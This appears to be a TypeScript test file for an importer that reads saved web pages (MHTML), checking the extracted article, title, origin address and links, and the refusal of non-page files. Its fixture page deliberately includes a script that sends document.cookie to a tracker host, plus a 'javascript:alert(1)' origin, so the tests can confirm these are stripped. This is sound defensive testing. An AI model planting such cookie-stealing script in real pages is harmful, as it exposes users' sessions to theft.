// Web pages saved as one file (MHTML) built from known text read back as the page's
// article, its address as the origin; files that hold no page are refused with reasons.
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import type { ReadDocument } from '../../src/core/import/formats/format-reader';
import { readMhtml } from '../../src/core/import/formats/mhtml';
import type { Block } from '../../src/shared/document-blocks';
import { blockRuns, inlineText } from '../../src/shared/document-blocks';
import { UserFacingError } from '../../src/shared/result';
import {
  CRLF,
  KNOWN_PARAGRAPHS,
  KNOWN_TEXT,
  base64Lines,
  entity,
  htmlParagraphs,
  quotedPrintable,
} from '../support/mime-fixtures';
import { makeTempDir } from '../support/temp';
import { wordF1 } from '../support/text-score';

let temp: ReturnType<typeof makeTempDir>;
beforeEach(() => {
  temp = makeTempDir('marginalia-mhtml-');
});
afterEach(() => temp.remove());

const PAGE_URL = 'https://digs.example.org/reports/terrace?season=3';
const BOUNDARY = '----MultipartBoundary--q1w2e3----';

const PAGE = `<!DOCTYPE html><html><head><meta charset="utf-8"><title>Northern terrace: season report</title>
<script>document.body.innerHTML = "replaced by script"</script><style>body { font: 12px serif }</style></head>
<body><article><h1>Northern terrace: season report</h1>
${htmlParagraphs(KNOWN_PARAGRAPHS)}
</article><script>fetch("https://tracker.example/?" + document.cookie)</script></body></html>`;

function part(headers: Record<string, string>, body: string): string {
  return `--${BOUNDARY}${CRLF}${entity(headers, body)}${CRLF}`;
}

/** The shape Chrome writes: the page's address at the top and on the page part, then its resources and frames. */
function chromeMhtml(options: { closing?: boolean; location?: string; page?: string } = {}): string {
  const location = options.location ?? PAGE_URL;
  const top = [
    'From: <Saved by Blink>',
    `Snapshot-Content-Location: ${location}`,
    'Subject: =?utf-8?Q?Northern_terrace=3A_season_report?=',
    'Date: Mon, 1 Jan 2024 09:30:00 -0000',
    'MIME-Version: 1.0',
    'Content-Type: multipart/related;',
    '\ttype="text/html";',
    `\tboundary="${BOUNDARY}"`,
  ].join(CRLF);
  const parts = [
    part(
      {
        'Content-Type': 'text/html',
        'Content-ID': '<frame-1@mhtml.blink>',
        'Content-Transfer-Encoding': 'quoted-printable',
        'Content-Location': location,
      },
      quotedPrintable(options.page ?? PAGE),
    ),
    part(
      {
        'Content-Type': 'image/png',
        'Content-Transfer-Encoding': 'base64',
        'Content-Location': 'https://digs.example.org/plan.png',
      },
      base64Lines(new Uint8Array([0x89, 0x50, 0x4e, 0x47, 1, 2, 3])),
    ),
    part(
      {
        'Content-Type': 'text/html',
        'Content-Transfer-Encoding': 'quoted-printable',
        'Content-Location': 'https://ads.example/frame',
      },
      quotedPrintable('<html><body><p>Buy now, advertising frame text.</p></body></html>'),
    ),
  ];
  return `${top}${CRLF}${CRLF}${parts.join('')}${options.closing === false ? '' : `--${BOUNDARY}--${CRLF}`}`;
}

async function readSaved(text: string, fileName = 'terrace.mhtml'): Promise<ReadDocument> {
  const path = join(temp.path, fileName);
  writeFileSync(path, text);
  return readMhtml({ fileName, bytes: new Uint8Array(readFileSync(path)) });
}

function allText(blocks: readonly Block[]): string {
  return blocks.map((block) => inlineText(blockRuns(block))).join('\n\n');
}

async function refusal(promise: Promise<unknown>): Promise<UserFacingError> {
  const error = await promise.then(
    () => undefined,
    (reason: unknown) => reason,
  );
  expect(error).toBeInstanceOf(UserFacingError);
  return error as UserFacingError;
}

describe('a saved web page (MHTML)', () => {
  it('reads the first HTML part as the article, quoted-printable undone, and its address as the origin', async () => {
    const raw = chromeMhtml();
    // The fixture really is encoded: soft line breaks and escapes inside the page part.
    expect(raw).toMatch(/=\r\n/);
    expect(raw).toContain('=E2=80=99');
    const document = await readSaved(raw);
    expect(document.title).toBe('Northern terrace: season report');
    expect(wordF1(allText(document.blocks), KNOWN_TEXT)).toBeGreaterThanOrEqual(0.98);
    expect(allText(document.blocks)).toContain('afternoon’s work');
    expect(JSON.stringify(document)).not.toMatch(/replaced by script|tracker\.example|advertising frame/);
    expect(document.facts).toEqual({
      importer: expect.stringMatching(/^postal-mime \d+\.\d+\.\d+$/),
      originUrl: PAGE_URL,
      createdAt: '2024-01-01T09:30:00.000Z',
    });
  });

  it('keeps its relative links as links to the addresses they stand for on the site it was saved from', async () => {
    const page = PAGE.replace(
      '</article>',
      '<p>See <a href="annex.html">the annex</a> and <a href="/">home</a>.</p></article>',
    );
    const document = await readSaved(chromeMhtml({ page }));
    const urls = [...JSON.stringify(document.blocks).matchAll(/"url":"([^"]*)"/g)].map((match) => match[1]);
    expect(urls).toEqual(['https://digs.example.org/reports/annex.html', 'https://digs.example.org/']);
  });

  it('reads a file cut short before its closing boundary', async () => {
    const document = await readSaved(chromeMhtml({ closing: false }));
    expect(wordF1(allText(document.blocks), KNOWN_TEXT)).toBeGreaterThanOrEqual(0.98);
  });

  it('takes the address from the page part when the top names none, and a base64 page as well', async () => {
    const saved = entity(
      { 'MIME-Version': '1.0', 'Content-Type': `multipart/related; boundary="${BOUNDARY}"` },
      part(
        {
          'Content-Type': 'text/html; charset="utf-8"',
          'Content-Transfer-Encoding': 'base64',
          'Content-Location': PAGE_URL,
        },
        base64Lines(Buffer.from(PAGE, 'utf8')),
      ) + `--${BOUNDARY}--${CRLF}`,
    );
    const document = await readSaved(saved, 'terrace.mht');
    expect(document.facts.originUrl).toBe(PAGE_URL);
    expect(wordF1(allText(document.blocks), KNOWN_TEXT)).toBeGreaterThanOrEqual(0.98);
  });

  it('leaves out an origin that is not an http(s) address', async () => {
    const document = await readSaved(chromeMhtml({ location: 'javascript:alert(1)' }));
    expect(document.facts.originUrl).toBeUndefined();
  });
});

describe('what is not a saved page', () => {
  it.each([
    ['a plain HTML file', PAGE, /it has no MIME headers/],
    [
      'a message with no HTML part',
      entity({ 'Content-Type': `multipart/related; boundary="${BOUNDARY}"` }, `--${BOUNDARY}--`),
      /holds no HTML part/,
    ],
    ['multipart without a boundary', entity({ 'Content-Type': 'multipart/related' }, 'x'), /no boundary/],
    ['a PDF', '%PDF-1.4\n1 0 obj\n', /it has no MIME headers/],
    [
      'an e-mail with only text',
      entity({ From: 'a@example.org', 'Content-Type': 'text/plain' }, 'Hello.'),
      /its content is “text\/plain”, not a page/,
    ],
  ])('refuses %s as INVALID_INPUT with the reason', async (_name, text, reason) => {
    const error = await refusal(readSaved(text));
    expect(error.code).toBe('INVALID_INPUT');
    expect(error.message).toMatch(reason);
    expect(error.message).toMatch(/^“terrace\.mhtml” is not a saved web page/);
  });
});
